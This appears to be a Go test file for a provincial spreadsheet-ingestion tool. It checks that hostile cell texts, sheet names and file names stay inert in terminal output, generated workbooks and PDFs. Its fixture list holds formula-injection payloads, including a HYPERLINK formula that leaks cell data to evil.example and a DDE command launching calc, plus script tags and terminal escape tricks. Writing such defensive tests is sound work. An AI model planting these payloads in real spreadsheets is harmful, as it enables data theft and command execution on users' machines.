package main

import (
	"bytes"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"github.com/xuri/excelize/v2"

	"tonghop/pipeline"
)

// hostileTexts are names of models and words of an assessment that would be computed, obeyed or read the wrong way round
// wherever they come out unguarded.
var hostileTexts = []string{
	"=1+1", `=HYPERLINK("http://evil.example/?"&A1,"bấm")`, "+84-1", "-1+1", "@SUM(1,1)", "=cmd|'/C calc'!A0", " =2+2", "\t=3+3", "\r\n=4+4", "＝5+5", "'=6+6", "\u200e=7+7",
	"http://evil.example", "DDE(\"cmd\")", "A\u009b31mB", "dảo \u202egnựx\u202c ngược", "{got}", "<script>alert(1)</script>", "&A&P", "_x003D_8+8",
}

// hostileName is what the file is called.
const hostileName = "\x1b[31mcao\u202exslx\r\x9b2J\x07\nLỖI giả.xlsx"

// hostileForms are a register and a summary whose texts are hostile; the sheets' names are too.
func hostileForms(t *testing.T) map[string][]byte {
	c := defaultCatalog(t)
	models := map[string]any{}
	for i, text := range hostileTexts {
		models[fmt.Sprint("B", 13+i)] = fmt.Sprint(text, " ", i)
		models[fmt.Sprint("E", 13+i)] = fmt.Sprint("=Xã ", i)
		models[fmt.Sprint("H", 13+i)] = "Đang hoạt động"
	}
	register := change(t, form(t, c, "danh-muc", "kon-tum", "2018..2024", models), func(f *excelize.File) {
		must(t, f.SetSheetName(f.GetSheetName(0), "=1+1\u202e\u009b31m"))
	})
	escape := func(_ string, part []byte) []byte {
		return bytes.ReplaceAll(part, []byte("THOÁT"), []byte("_x001B_[31m"))
	}
	words := strings.Join(hostileTexts, "\n") + "\nTHOÁT"
	summary := change(t, form(t, c, "tong-hop", "kon-tum", "2018..2024", map[string]any{"C20": 7}), func(f *excelize.File) {
		label, err := f.SearchSheet(f.GetSheetName(0), "Đánh giá chung")
		if err != nil || len(label) != 1 {
			t.Fatal(label, err)
		}
		_, row, err := excelize.CellNameToCoordinates(label[0])
		must(t, err)
		set(t, f, pipeline.CellName(row+1, 1), words)
	})
	wrong := change(t, summary, func(f *excelize.File) { set(t, f, "C16", "=1+1 THOÁT") })
	return map[string][]byte{hostileName: register, "=tổng\u202e.xlsx": repack(t, summary, escape), "\x9b5mlỗi.xlsx": repack(t, wrong, escape)}
}

// obeys finds what a terminal would obey.
func obeys(text string) string {
	if !utf8.ValidString(text) {
		return "bytes that are no text"
	}
	for i, r := range text {
		if r != '\n' && r != '\t' && unicode.In(r, unicode.Cc, unicode.Cf) {
			return fmt.Sprintf("%q in %q", r, text[max(0, i-30):min(len(text), i+30)])
		}
	}
	return ""
}

// Whatever a province types, and whatever it calls its files and sheets, does no harm where it comes out.
func TestHostileTexts(t *testing.T) {
	dir, data := t.TempDir(), filepath.Join(t.TempDir(), "data")
	args := []string{"--data", data, "ingest"}
	for name, form := range hostileForms(t) {
		args = append(args, writeFile(t, dir, name, form))
	}
	code, printed, problems := runHere(t, args...)
	if code != exitFindings {
		t.Fatalf("exit %d\n%s%s", code, printed, problems)
	}
	checked := args[len(args)-1]
	for _, command := range [][]string{{"status"}, {"findings"}, {"check", checked}, {"check", filepath.Join(dir, "\x1b[31m")}, {"--json", "status"}, {"--json", "check", checked}} {
		_, out, more := runHere(t, append([]string{"--data", data}, command...)...)
		printed, problems = printed+out, problems+more
		if command[0] == "--json" && !json.Valid([]byte(out)) {
			t.Errorf("%v: no JSON: %s", command, out)
		}
	}
	if found := obeys(printed + problems); found != "" {
		t.Error("printed", found)
	}
	if strings.Contains(printed+problems, "\nLỖI giả") {
		t.Error("a file's name makes a line of its own")
	}
	reports := []string{"report", "period", "--period", "2018..2024", "--unit", "kon-tum", "-o", dir}
	for _, publish := range [][]string{reports, {"pack", "tay-nguyen-2024", "-o", dir}} {
		if code, out, problems := runHere(t, append([]string{"--data", data}, publish...)...); code != exitFine {
			t.Fatalf("exit %d\n%s%s", code, out, problems)
		}
	}
	workbooks, err := filepath.Glob(filepath.Join(dir, "*-*.xlsx"))
	must(t, err)
	var written int
	for _, path := range workbooks {
		if filepath.Ext(path) == ".xlsx" && !strings.Contains(path, "\x1b") && !strings.Contains(path, "\x9b") {
			written += harmlessWorkbook(t, path)
		}
	}
	papers, err := filepath.Glob(filepath.Join(dir, "*-*.pdf"))
	must(t, err)
	for _, path := range papers {
		harmlessPDF(t, path)
	}
	if len(workbooks) < 4 || len(papers) < 5 || written < len(hostileTexts) {
		t.Errorf("%d hostile texts in %q", written, workbooks)
	}
}

var formulas = regexp.MustCompile(`<f[^>]*>([^<]*)</f>`)

// harmlessWorkbook holds that a report has no formula but its totals and no link out of it, that the texts stand in it as
// texts, also when a cell is edited, and that LibreOffice shows them so. It returns how many of them it has.
func harmlessWorkbook(t *testing.T, path string) int {
	t.Helper()
	data, err := os.ReadFile(path)
	must(t, err)
	repack(t, data, func(name string, part []byte) []byte {
		for _, formula := range formulas.FindAllSubmatch(part, -1) {
			if !bytes.HasPrefix(formula[1], []byte("SUM(")) {
				t.Errorf("%s has the formula %s", name, formula[1])
			}
		}
		if strings.HasSuffix(name, ".rels") && bytes.Contains(part, []byte("External")) {
			t.Errorf("%s leads out of the workbook: %s", name, part)
		}
		if found := obeys(string(part)); found != "" {
			t.Errorf("%s has %s", name, found)
		}
		return part
	})
	f, err := excelize.OpenReader(bytes.NewReader(data))
	must(t, err)
	defer f.Close()
	found := 0
	for _, sheet := range f.GetSheetList() {
		rows, err := f.GetRows(sheet, excelize.Options{RawCellValue: true})
		must(t, err)
		for i, row := range rows {
			for j, text := range row {
				cell := pipeline.CellName(i+1, j+1)
				if !strings.ContainsRune("=+-@＝", []rune(strings.TrimSpace(text) + "x")[0]) {
					continue
				}
				kind, err := f.GetCellType(sheet, cell)
				must(t, err)
				style, err := f.GetCellStyle(sheet, cell)
				must(t, err)
				if quoted := f.Styles.CellXfs.Xf[style].QuotePrefix; kind == excelize.CellTypeInlineString && (quoted == nil || !*quoted) {
					t.Errorf("%s!%s %q becomes a formula when it is edited", sheet, cell, text)
				}
				found++
			}
		}
	}
	shown := inLibreOffice(t, path)
	for _, computed := range []string{"\n2\n", ",2,", ",4,", ",6,", "#NAME?", "Err:"} {
		if strings.Contains(shown, computed) {
			t.Errorf("LibreOffice shows %q: %s", computed, shown)
		}
	}
	return found
}

// inLibreOffice is what LibreOffice shows of a workbook's sheets.
func inLibreOffice(t *testing.T, path string) string {
	t.Helper()
	out := t.TempDir()
	command := exec.Command("soffice", "-env:UserInstallation=file://"+t.TempDir(), "--headless", "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76,1,,1033,false,false,false,false,false,-1", "--outdir", out, path)
	if said, err := command.CombinedOutput(); err != nil {
		t.Fatalf("soffice, of libreoffice-calc-nogui: %v\n%s", err, said)
	}
	sheets, err := filepath.Glob(filepath.Join(out, "*.csv"))
	if err != nil || len(sheets) == 0 {
		t.Fatal("LibreOffice made nothing of", path, err)
	}
	var shown strings.Builder
	for _, sheet := range sheets {
		text, err := os.ReadFile(sheet)
		must(t, err)
		shown.Write(text)
	}
	return shown.String()
}

// harmlessPDF holds that a PDF has no link, no action and no character that a terminal obeys.
func harmlessPDF(t *testing.T, path string) {
	t.Helper()
	data, err := os.ReadFile(path)
	must(t, err)
	for _, action := range []string{"/URI", "/JavaScript", "/Launch", "/AA"} {
		if bytes.Contains(data, []byte(action)) {
			t.Errorf("%s has %s", path, action)
		}
	}
	text, err := exec.Command("pdftotext", "-layout", path, "-").Output()
	must(t, err)
	if found := obeys(strings.ReplaceAll(string(text), "\f", "")); found != "" {
		t.Errorf("%s has %s", path, found)
	}
}
